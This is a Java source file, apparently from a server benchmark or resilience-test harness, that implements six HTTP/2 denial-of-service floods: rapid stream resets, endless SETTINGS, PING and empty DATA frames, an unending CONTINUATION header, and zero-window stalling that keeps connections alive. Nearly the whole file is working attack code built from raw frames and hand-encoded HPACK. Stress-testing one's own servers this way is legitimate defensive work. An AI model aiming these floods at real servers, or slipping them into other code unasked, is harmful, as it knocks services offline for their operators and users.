package org.livex.bench;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.concurrent.locks.LockSupport;

/** Floods that HTTP/2 makes cheap (RFC 9113, 10.5), on a connection that has shown no token. */
final class Http2Attacks {
    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int DATA = 0x0;
    private static final int HEADERS = 0x1;
    private static final int RST_STREAM = 0x3;
    private static final int SETTINGS = 0x4;
    private static final int PING = 0x6;
    private static final int WINDOW_UPDATE = 0x8;
    private static final int CONTINUATION = 0x9;
    private static final int END_STREAM = 0x1;
    private static final int END_HEADERS = 0x4;
    private static final byte[] CANCEL = {0, 0, 0, 8};
    private static final int AT_ONCE = 100;
    private static final int MOST = 1_000_000;
    private static final long PAUSE_NANOS = 10_000_000;
    private static final int MANY_FRAMES = 1_000;

    private Http2Attacks() {}

    static Map<String, Attacks.OneLine> all() {
        Map<String, Attacks.OneLine> all = new LinkedHashMap<>();
        all.put("HTTP/2: streams reset at once", Http2Attacks::resets);
        all.put("HTTP/2: settings without end", line -> floods(line, frame(SETTINGS, 0, 0, new byte[0])));
        all.put("HTTP/2: pings without end", line -> floods(line, frame(PING, 0, 0, new byte[8])));
        all.put("HTTP/2: empty data without end", Http2Attacks::emptyData);
        all.put("HTTP/2: a head that goes on and on", Http2Attacks::continuations);
        all.put("HTTP/2: answers that nobody has a window for", Http2Attacks::noWindow);
        return all;
    }

    private static void resets(RawLine line) throws IOException {
        begin(line, new byte[0]);
        for (int first = 1; first < MOST; first += 2 * AT_ONCE) {
            ByteArrayOutputStream frames = new ByteArrayOutputStream();
            for (int stream = first; stream < first + 2 * AT_ONCE; stream += 2) {
                frames.writeBytes(frame(HEADERS, END_STREAM | END_HEADERS, stream, head("GET")));
                frames.writeBytes(frame(RST_STREAM, 0, stream, CANCEL));
            }
            line.push(frames.toByteArray());
        }
    }

    private static void floods(RawLine line, byte[] one) throws IOException {
        begin(line, new byte[0]);
        ByteArrayOutputStream many = new ByteArrayOutputStream();
        for (int i = 0; i < MANY_FRAMES; i++) {
            many.writeBytes(one);
        }
        for (int i = 0; i < MOST; i++) {
            line.push(many.toByteArray());
        }
    }

    private static void emptyData(RawLine line) throws IOException {
        begin(line, new byte[0]);
        line.push(frame(HEADERS, END_HEADERS, 1, head("POST")));
        byte[] nothing = frame(DATA, 0, 1, new byte[0]);
        for (int i = 0; i < MOST; i++) {
            line.push(nothing);
        }
    }

    private static void continuations(RawLine line) throws IOException {
        begin(line, new byte[0]);
        line.push(frame(HEADERS, END_STREAM, 1, head("GET")));
        byte[] more = frame(CONTINUATION, 0, 1, field("x-more", "y".repeat(100)));
        for (int i = 0; i < MOST; i++) {
            line.push(more);
        }
    }

    /** Asks for a page as often as it may, and lets not a byte of any come. */
    private static void noWindow(RawLine line) throws IOException {
        byte[] initialWindowOfZero = {0, 4, 0, 0, 0, 0};
        begin(line, initialWindowOfZero);
        for (int stream = 1; stream < 2 * AT_ONCE; stream += 2) {
            line.push(frame(HEADERS, END_STREAM | END_HEADERS, stream, head("GET")));
        }
        for (int i = 0; i < MOST; i++) {
            // One byte of window for the connection: it never counts as idle.
            line.push(frame(WINDOW_UPDATE, 0, 0, new byte[] {0, 0, 0, 1}));
            LockSupport.parkNanos(PAUSE_NANOS);
        }
    }

    private static void begin(RawLine line, byte[] settings) throws IOException {
        line.push(PREFACE);
        line.push(frame(SETTINGS, 0, 0, settings));
    }

    /** HPACK by its static table alone (RFC 7541, appendix A). */
    private static byte[] head(String method) {
        ByteArrayOutputStream head = new ByteArrayOutputStream();
        head.write(method.equals("GET") ? 0x82 : 0x83);
        head.write(0x87);
        head.write(0x84);
        head.writeBytes(named(0x01, "localhost"));
        return head.toByteArray();
    }

    private static byte[] field(String name, String value) {
        ByteArrayOutputStream field = new ByteArrayOutputStream();
        field.write(0);
        field.writeBytes(text(name));
        field.writeBytes(text(value));
        return field.toByteArray();
    }

    private static byte[] named(int index, String value) {
        ByteArrayOutputStream field = new ByteArrayOutputStream();
        field.write(index);
        field.writeBytes(text(value));
        return field.toByteArray();
    }

    /** Of at most 126 bytes, plain. */
    private static byte[] text(String text) {
        byte[] bytes = text.getBytes(StandardCharsets.US_ASCII);
        ByteArrayOutputStream coded = new ByteArrayOutputStream();
        coded.write(bytes.length);
        coded.writeBytes(bytes);
        return coded.toByteArray();
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        ByteArrayOutputStream frame = new ByteArrayOutputStream(9 + payload.length);
        frame.write(payload.length >>> 16);
        frame.write(payload.length >>> 8);
        frame.write(payload.length);
        frame.write(type);
        frame.write(flags);
        for (int shift = 24; shift >= 0; shift -= 8) {
            frame.write(stream >>> shift);
        }
        frame.writeBytes(payload);
        return frame.toByteArray();
    }
}
